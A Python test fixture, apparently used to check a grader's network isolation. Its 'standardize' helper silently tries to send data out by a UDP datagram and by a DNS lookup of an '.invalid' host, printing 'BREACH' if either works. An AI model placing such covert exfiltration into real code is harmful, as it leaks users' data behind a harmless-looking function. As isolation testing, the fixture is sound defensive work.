"""Sends inputs out by UDP and in the labels of host names."""
# attack: lines=41; target=standardize; needs=isolation
# held by: there is no network

import socket

import torch


def attempt():
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.sendto(b"inputs", ("127.0.0.1", int("{{udp}}")))
            print("BREACH: sent a datagram")
    except OSError as error:
        print("tried:", error.strerror)
    try:
        print("tried:", socket.getaddrinfo("localhost", 80))
        print("BREACH: looked up", socket.getaddrinfo("inputs.blindgrade.invalid", 80))
    except OSError as error:
        print("tried:", error)


def standardize(values):
    attempt()
    return values


def correlation(first, second):
    first, second = (row - row.mean(dim=-1, keepdim=True) for row in (first, second))
    return torch.nn.functional.cosine_similarity(first, second, dim=-1)


def fit_line(x, y):
    slope, offset = (x * y).mean() / (x * x).mean(), y.mean()
    return lambda at: slope * at + offset
